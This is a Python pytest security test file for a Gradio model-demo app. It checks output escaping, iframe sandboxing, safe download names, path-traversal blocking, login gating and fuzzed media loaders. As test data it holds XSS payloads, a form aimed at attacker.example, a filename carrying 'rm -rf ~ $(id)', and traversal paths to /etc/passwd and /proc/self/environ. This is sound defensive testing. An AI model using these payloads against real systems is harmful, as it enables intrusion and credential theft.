"""Security beyond `test_api`'s checks (path traversal, login, share warning, upload limit).

Model output is untrusted: HTML reaches the page only inside the sandboxed preview, the
OCR Markdown renders no HTML the model wrote, and download names are made safe whatever
the upload was called. Uploads are judged by content before the model sees them, stay in
Gradio's cache, come back as downloads when active, and are deleted after use. Parsers
and media loaders are fuzzed: nothing but `InvalidInputError` may escape them.

Most of this runs against the app with a scripted "model" that answers whatever a test
sets, so hostile answers can be sent through the real endpoints.
"""

from __future__ import annotations

import contextlib
import functools
import io
import re
import tempfile
from datetime import datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path

import av
import httpx
import numpy as np
import pytest
import soundfile as sf
from gradio import route_utils
from gradio.utils import get_upload_folder
from gradio_client import Client, handle_file
from gradio_client.exceptions import AppError
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from PIL import Image

import gemma_demo.ui.layout as ui
import gemma_demo.ui.files as ui_files
from gemma_demo.config import DEFAULT_MAX_FILE_SIZE, AppConfig
from gemma_demo.errors import InvalidInputError
from gemma_demo.media.audio import load_audio
from gemma_demo.media.images import load_image
from gemma_demo.media.video_file import extract_audio_track, probe_video
from gemma_demo.media.video_sampling import FrameSampling, sample_video
from gemma_demo.engine.cache import ModelCache
from gemma_demo.engine.registry import ModelCapabilities
from gemma_demo.ui.server import launch
from gemma_demo.tasks.ocr import without_raw_html
from hostile_inputs import picture, speech_like
from app_helpers import free_port, serve, wait_until
from test_api import INPUT, PASSWORD, USER
from test_vision_tasks import ScriptedBackend
from video_factory import write_video

HEARING = ModelCapabilities(audio=True, context_tokens=131_072)
FUZZ_EXAMPLES = 40
CLEANUP_WAIT_S = 60.0  # a ceiling: the cleanup runs every second
SAFE_NAME = re.compile(r"[A-Za-z0-9][A-Za-z0-9._-]*")
MIB = 1024**2

HOSTILE_MARKDOWN = """# Quarterly report

<script>fetch("/gradio_api/upload", {method: "POST"})</script>
<img src=x onerror="alert(document.cookie)">

| Region | Note |
|---|---|
| North | <iframe src="javascript:alert(1)"></iframe> |
| South | <b onmouseover=alert(1)>hover</b> |

<!-- hidden instructions -->
<style>body { display: none }</style>
<form action="https://attacker.example/"><input name="password"></form>
<a href="javascript:alert(1)">click</a> and `<em>code</em>`

```html
<b>shown as code</b>
```
~~~
<i>also code</i>
~~~
\r\n```\r\n<svg onload=alert(1)>\r\n```\r\n"""
HOSTILE_PAGE = '</iframe><script>parent.document.body.innerHTML = ""</script><iframe sandbox="allow-same-origin'
BOXES = '[{"box_2d": [100, 100, 500, 500], "label": "<img src=x onerror=alert(1)>"}]'
HOSTILE_NAMES = (
    '..\\..\\"quoted" <img src=x onerror=alert(1)>; rm -rf ~ $(id)',
    "\u202eevil\u202dgnp.exe",
    "." * 3 + "hidden",
    "x" * 200,
)
TEXT_SAFE_OUTPUTS = {
    "textbox", "code", "json", "highlightedtext", "dataframe", "markdown", "image", "gallery", "file",
    "chatbot",  # renders Markdown with sanitize_html, checked below
    "state",  # never rendered
}


def html_tokens(tokens) -> list:
    found = []
    for token in tokens:
        if token.type in ("html_block", "html_inline"):
            found.append(token)
        found += html_tokens(token.children or [])
    return found


COMMONMARK = MarkdownIt("commonmark", {"html": True}).enable("table")


class Tags(HTMLParser):
    def __init__(self, markup: str):
        super().__init__()
        self.tags: list[tuple[str, dict]] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


# The app with a scripted model


@pytest.fixture(scope="module")
def scripted() -> ScriptedBackend:
    return ScriptedBackend("", capabilities=HEARING)


@pytest.fixture(scope="module")
def request_root(tmp_path_factory) -> Path:
    return tmp_path_factory.mktemp("requests")


@pytest.fixture(scope="module")
def app(scripted, request_root):
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(ui_files, "APP_TEMP_DIR", request_root)
        cache = ModelCache(loaders={"local": lambda name, options: scripted})
        demo = launch(AppConfig(model="tiny", port=free_port()), cache, prevent_thread_lock=True, quiet=True,
                      share=False)
        yield demo
        demo.close()


@pytest.fixture()
def answer(scripted):
    def set_answer(text: str) -> ScriptedBackend:
        scripted.raw = text
        scripted.requests.clear()
        return scripted

    return set_answer


def served_config(app) -> tuple[dict[int, dict], list[dict]]:
    config = httpx.get(f"{app.local_url}config").json()
    return {c["id"]: c for c in config["components"]}, config["dependencies"]


def test_model_output_reaches_only_text_safe_components_and_html_only_the_preview(app):
    components, dependencies = served_config(app)
    endpoints = {d["api_name"]: d for d in dependencies if d["api_name"] in {e.strip("/") for e in ui_api(app)}}
    assert len(endpoints) == 13  # the nine task tabs, /ocr_document, /chat, /export_chat, /import_chat
    assert "ocr_document" in endpoints
    html_writers = set()
    for name, dependency in endpoints.items():
        for output in dependency["outputs"]:
            kind, props = components[output]["type"], components[output]["props"]
            if kind == "html":
                html_writers.add(name)
                continue
            assert kind in TEXT_SAFE_OUTPUTS, (name, kind)
            if kind in ("markdown", "chatbot"):
                assert props["sanitize_html"] is True, (name, props.get("label"))
            if kind == "dataframe":
                assert props["datatype"] in ("str", ["str"]), props["datatype"]
    assert html_writers == {"html"}
    assert sum(c["type"] == "html" for c in components.values()) == 1


def ui_api(app) -> set[str]:
    return set(httpx.get(f"{app.local_url}gradio_api/info").json()["named_endpoints"])


def test_ocr_markdown_renders_none_of_the_html_the_model_wrote(client, answer):
    answer(HOSTILE_MARKDOWN)
    rendered, raw, table, _, _ = client.predict(handle_file(INPUT / "document.png"), "markdown", api_name="/ocr")
    assert not html_tokens(COMMONMARK.parse(rendered)), "raw HTML would reach the page"
    tags = Tags(COMMONMARK.render(rendered)).tags
    assert {tag for tag, _ in tags} <= {"h1", "p", "table", "thead", "tbody", "tr", "th", "td", "code", "pre", "a"}
    assert not any(name.startswith("on") for _, attrs in tags for name in attrs)
    assert not any(attrs.get("href", "").startswith("javascript:") for tag, attrs in tags if tag == "a")
    # Nothing is lost: the words show as text, the table and code blocks keep their shape.
    page = COMMONMARK.render(rendered)
    assert "&lt;script&gt;fetch" in page and "<h1>Quarterly report</h1>" in page and "<td>North</td>" in page
    assert "&lt;b&gt;shown as code&lt;/b&gt;" in page and "&lt;i&gt;also code&lt;/i&gt;" in page
    assert raw == HOSTILE_MARKDOWN.strip() and table["value"]["data"][0][0] == "North"


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from([
    "<", ">", "`", "```", "~~~", "````", " ", "   ", "\n", "\r\n", "\r", "\t", "- ", "> ", "1. ", "|", "---", "x",
    "/", "!", "?", "=", '"', "&", "\\", "<img src=x onerror=alert(1)>", "<script>", "</div>", "<!--", "<?x", "<!X",
]), max_size=40).map("".join))
def test_no_markdown_hides_html_from_the_escaping(text):
    assert not html_tokens(COMMONMARK.parse(without_raw_html(text)))


def test_the_generated_page_goes_only_into_the_sandbox_and_downloads_as_a_file(app, client, answer):
    answer(f"```html\n{HOSTILE_PAGE}\n```")
    code, preview, page, _, _ = client.predict(handle_file(INPUT / "sketch.png"), "", api_name="/html")
    [(tag, attrs)] = Tags(preview).tags
    assert tag == "iframe" and attrs["sandbox"] == "allow-scripts" and attrs["srcdoc"] == HOSTILE_PAGE == code
    served = httpx.get(f"{app.local_url}gradio_api/file={page}")
    assert served.status_code == 200 and served.headers["content-disposition"].startswith("attachment")


@pytest.mark.parametrize("hostile", HOSTILE_NAMES, ids=["quotes-and-shell", "rtl-override", "dots", "long"])
def test_download_names_are_safe_whatever_the_upload_was_called(client, answer, tmp_path, request_root, hostile):
    image = picture(tmp_path / f"{hostile}.png")
    audio = speech_like(tmp_path / f"{hostile}.wav")
    answer("```html\n<p>page</p>\n```")
    _, _, page, _, _ = client.predict(handle_file(image), "", api_name="/html")
    answer(BOXES)
    _, _, _, _, coco, _, _ = client.predict(handle_file(image), "cat", api_name="/detect")
    answer("Hello there.")
    _, _, subtitles, _, _ = client.predict(handle_file(audio), "English", api_name="/transcribe")
    names = [Path(page).name, Path(coco).name, *(Path(file).name for file in subtitles)]
    assert len(names) == 5 and all(SAFE_NAME.fullmatch(name) for name in names), names
    assert sorted(name.rsplit(".", 1)[1] for name in names) == ["html", "json", "srt", "txt", "vtt"]
    assert all(len(name) <= 120 for name in names)
    assert not list(request_root.glob("request-*")), "a request's folder was left behind"


@pytest.mark.parametrize(("endpoint", "inputs", "make", "name", "message"), [
    ("/caption", ["short", ""], speech_like, "photo.png", r"is not a picture"),
    ("/ocr", ["markdown"], lambda path: path.write_bytes(b"<html><script>alert(1)</script>") and path,
     "scan.jpg", r"is not a picture"),
    ("/transcribe", ["English"], picture, "memo.wav", r"(has no audio track|is not an audio file)"),
    ("/ask_audio", ["What is said?"], lambda path: write_video(path.with_suffix(".mp4"), 10).rename(path), "voice.wav",
     r"has no audio track"),
    ("/video", ["What moves?"], speech_like, "clip.mp4", r"no video track"),
], ids=["wav-as-png", "html-as-jpg", "png-as-wav", "silent-mp4-as-wav", "wav-as-mp4"])
def test_uploads_are_judged_by_content_before_the_model_sees_them(client, answer, tmp_path, endpoint, inputs, make,
                                                                 name, message):
    backend = answer("never sent")
    upload = make(tmp_path / name)
    with pytest.raises(AppError, match=message):
        client.predict(handle_file(upload), *inputs, api_name=endpoint)
    assert backend.requests == []


def upload(app, name: str, data: bytes) -> httpx.Response:
    return httpx.post(f"{app.local_url}gradio_api/upload", files={"files": (name, data)})


@pytest.mark.parametrize(("name", "data", "disposition"), [
    ("../../../../tmp/escaped-upload.txt", b"hello", "inline"),
    ("/etc/cron.d/evil", b"* * * * * root id", "attachment"),
    ("page.html", b"<script>alert(document.cookie)</script>", "attachment"),
    ("logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "attachment"),
], ids=["traversal-name", "absolute-name", "html", "svg"])
def test_uploads_stay_in_the_cache_and_active_content_only_downloads(app, name, data, disposition):
    response = upload(app, name, data)
    assert response.status_code == 200
    [stored] = response.json()
    cache = Path(get_upload_folder())
    assert Path(stored).resolve().is_relative_to(cache.resolve()), stored
    assert not Path("/tmp/escaped-upload.txt").exists() and not Path("/etc/cron.d/evil").exists()
    served = httpx.get(f"{app.local_url}gradio_api/file={stored}")
    assert served.status_code == 200 and served.content == data
    assert served.headers["content-disposition"].startswith(disposition)


@pytest.mark.parametrize("path", [
    "%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "..%252f..%252f..%252f..%252fetc%252fpasswd",
    "....//....//....//....//etc/passwd",
    "..\\..\\..\\..\\etc\\passwd",
    "/proc/self/environ",
    "/proc/self/cmdline",
    "//etc/passwd",
    "file:///etc/passwd",
    "/tmp/gradio/../../etc/passwd",
    "~/.bashrc",
])
def test_more_paths_outside_the_app_are_not_served(app, path):
    for route in ("gradio_api/file=", "file=", "gradio_api/file/"):
        response = httpx.get(f"{app.local_url}{route}{path}")
        assert response.status_code in (400, 403, 404, 405), (route, path, response.status_code)
        assert "root:" not in response.text and "PATH=" not in response.text


def test_the_model_folder_and_request_folders_are_not_served(app, tiny_options, request_root):
    from gemma_demo.tiny.model import ensure_tiny_model

    folder = ensure_tiny_model("e2b", tiny_options.tiny_root)
    page = request_root / "request-x" / "page.html"  # a request's file, as the app writes it (module's root)
    page.parent.mkdir(exist_ok=True)
    page.write_text("<p>another visitor's page</p>", encoding="utf-8")
    for path in (folder / "config.json", request_root, page, Path(ui.__file__)):
        response = httpx.get(f"{app.local_url}gradio_api/file={path}")
        assert response.status_code in (403, 404), path
        assert "another visitor" not in response.text and '"model_type"' not in response.text


def cached_by(demo) -> set[str]:
    """Every file the server put in Gradio's cache for this app: uploads and results."""
    return set().union(*demo.temp_file_sets)


def kept_by(demo) -> set[str]:
    """Example files, which Gradio keeps for the example rows."""
    return set().union(*(getattr(block, "keep_in_cache", set()) for block in demo.blocks.values()))


class Clock(datetime):
    """Gradio's cleanup reads the time as `datetime.now()`; this one can be moved forward."""

    ahead = timedelta(0)

    @classmethod
    def now(cls, tz=None):
        return datetime.now(tz) + cls.ahead


def test_cache_files_are_deleted_after_their_age_and_at_shutdown(tiny_options, monkeypatch, tmp_path):
    """The app's own age, checked every second; files age only when the test moves the clock,
    so a busy machine can never make an upload old before its handler has read it."""
    _, age = ui.CACHE_CLEANUP
    monkeypatch.setattr(ui, "CACHE_CLEANUP", (1, age))
    monkeypatch.setattr(route_utils, "datetime", Clock)
    monkeypatch.setattr(Clock, "ahead", timedelta(0))
    sketch = tmp_path / "my-sketch.png"
    Image.effect_noise((64, 48), 40).convert("RGB").save(sketch)  # new content: not one of the examples
    demo = serve(tiny_options)
    try:
        client = Client(demo.local_url, verbose=False)
        before = cached_by(demo)
        client.predict(handle_file(sketch), "", max_new_tokens=4, api_name="/html")
        made = cached_by(demo) - before
        assert {Path(path).suffix for path in made} >= {".png", ".html"}, made  # the upload and the page
        assert all(Path(path).exists() for path in made)
        Clock.ahead = timedelta(seconds=age + 1)
        assert wait_until(lambda: not any(Path(path).exists() for path in made), CLEANUP_WAIT_S)
        Clock.ahead = timedelta(0)
        assert kept_by(demo) and all(Path(path).exists() for path in kept_by(demo))
        final = client.predict(handle_file(sketch), "", max_new_tokens=4, sampling="off", api_name="/html")
        assert "4 new tokens" in final[-1]
        left = cached_by(demo) - kept_by(demo)
        assert left and all(Path(path).exists() for path in left)
    finally:
        demo.close()
    assert not any(Path(path).exists() for path in left), "files outlived the server"


def test_the_default_cleanup_keeps_files_for_an_hour(app):
    frequency, age = ui.CACHE_CLEANUP
    assert app.delete_cache == ui.CACHE_CLEANUP and age >= 60 * 60 and frequency <= age


def test_the_default_upload_limit_is_documented_and_applied(app):
    readme = (Path(__file__).resolve().parent.parent / "README.md").read_text(encoding="utf-8")
    [row] = [line for line in readme.splitlines() if line.startswith("| `--max-file-size`")]
    assert f"default `{DEFAULT_MAX_FILE_SIZE}`" in row and DEFAULT_MAX_FILE_SIZE == "200mb"
    assert app.max_file_size == 200 * MIB  # what Gradio enforces; test_api sees it refuse a file over the limit


@pytest.fixture(scope="module")
def locked_app(scripted):
    """Started with --auth and --mcp; what it printed is kept as `startup_log`."""
    cache = ModelCache(loaders={"local": lambda name, options: scripted})
    printed = io.StringIO()
    with contextlib.redirect_stderr(printed):
        demo = launch(AppConfig(model="tiny", port=free_port(), auth=(USER, PASSWORD), mcp=True), cache,
                      prevent_thread_lock=True, quiet=True, share=False)
    demo.startup_log = printed.getvalue()
    yield demo
    demo.close()


@pytest.mark.parametrize(("method", "route"), [
    ("post", "gradio_api/upload"),
    ("post", "gradio_api/queue/join"),
    ("post", "gradio_api/call/caption"),
    ("get", "gradio_api/queue/data?session_hash=x"),
    ("get", "gradio_api/info"),
    ("get", "gradio_api/mcp/schema"),
    ("post", "gradio_api/mcp/"),
])
def test_without_login_no_route_answers(locked_app, method, route):
    response = httpx.request(method, f"{locked_app.local_url}{route}", json={"data": [], "fn_index": 0})
    assert response.status_code in (401, 403, 404), (route, response.status_code)
    assert "caption" not in response.text


def test_mcp_is_refused_with_a_login_since_it_would_list_the_tools_to_anyone(locked_app):
    assert locked_app.mcp_server is False
    assert "--mcp is off" in locked_app.startup_log


def test_a_wrong_password_gets_no_session(locked_app):
    login = httpx.post(f"{locked_app.local_url}login", data={"username": USER, "password": "wrong"})
    assert login.status_code in (400, 401) and not login.cookies
    with pytest.raises(ValueError):
        Client(locked_app.local_url, auth=(USER, "wrong"), verbose=False)


# Media loaders fuzzed with damaged and mislabelled files


@functools.cache
def seeds() -> tuple[bytes, ...]:
    """Small valid files of every kind the loaders read, for the fuzzer to damage."""
    found = []
    for image_format in ("PNG", "JPEG", "GIF", "WEBP", "BMP"):
        buffer = io.BytesIO()
        Image.new("RGB", (24, 16), (200, 30, 30)).save(buffer, image_format)
        found.append(buffer.getvalue())
    tone = (0.4 * np.sin(np.arange(8_000) / 4)).astype(np.float32)
    for audio_format in ("WAV", "FLAC", "OGG"):
        buffer = io.BytesIO()
        sf.write(buffer, tone, 16_000, format=audio_format)
        found.append(buffer.getvalue())
    with tempfile.TemporaryDirectory() as folder:
        for name, codec in (("clip.mp4", "libx264"), ("clip.webm", "libvpx-vp9")):
            clip = write_video(Path(folder) / name, 6, fps=10, width=32, height=32, codec=codec, with_audio=True)
            found.append(clip.read_bytes())
    return tuple(found)


@st.composite
def damaged(draw) -> bytes:
    if draw(st.integers(0, 9)) == 0:
        return draw(st.binary(max_size=512))
    data = bytearray(draw(st.sampled_from(seeds())))
    for _ in range(draw(st.integers(1, 4))):
        position = draw(st.integers(0, len(data)))
        kind = draw(st.sampled_from(["cut", "overwrite", "insert", "zero-run"]))
        if kind == "cut":
            del data[position:]
        elif kind == "overwrite":
            data[position:position + 4] = draw(st.binary(min_size=1, max_size=4))
        elif kind == "insert":
            data[position:position] = draw(st.binary(min_size=1, max_size=64))
        else:
            data[position:position + 64] = bytes(min(64, len(data) - position))
    return bytes(data)


LOADERS = {
    "load_image": load_image,
    "load_audio": lambda path: load_audio(path, max_seconds=5.0),
    "probe_video": probe_video,
    "sample_video": lambda path: sample_video(path, FrameSampling(num_frames=3)),
    "extract_audio_track": lambda path: extract_audio_track(path, 0.0, 2.0),
}


@pytest.mark.parametrize("loader", sorted(LOADERS))
@settings(max_examples=FUZZ_EXAMPLES, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=damaged(), suffix=st.sampled_from([".jpg", ".png", ".gif", ".wav", ".mp3", ".mp4", ".webm", ".txt", ""]))
def test_damaged_and_mislabelled_files_raise_only_invalid_input(loader, data, suffix):
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / f"upload{suffix}"
        path.write_bytes(data)
        try:
            LOADERS[loader](path)
        except InvalidInputError as error:
            assert str(error) and "Traceback" not in str(error)


def test_audio_whose_tags_are_not_utf8_still_loads(tmp_path):
    """Found by the fuzzer: PyAV refused such a file outright, so it failed with the generic error."""
    path = tmp_path / "tagged.m4a"
    with av.open(str(path), "w", format="mp4") as container:
        container.metadata["title"] = "Café tune"
        stream = container.add_stream("aac", rate=16_000)
        stream.layout = "mono"
        frame = av.AudioFrame.from_ndarray(0.4 * np.sin(np.arange(16_000, dtype=np.float32) / 4)[None, :],
                                           format="fltp", layout="mono")
        frame.sample_rate = 16_000
        for packet in [*stream.encode(frame), *stream.encode(None)]:
            container.mux(packet)
    path.write_bytes(path.read_bytes().replace("Café tune".encode(), b"Caf\xe9 tune!"))  # Latin-1, same length
    with pytest.raises(UnicodeDecodeError):
        av.open(str(path))
    assert abs(len(load_audio(path)) - 16_000) < 2_000
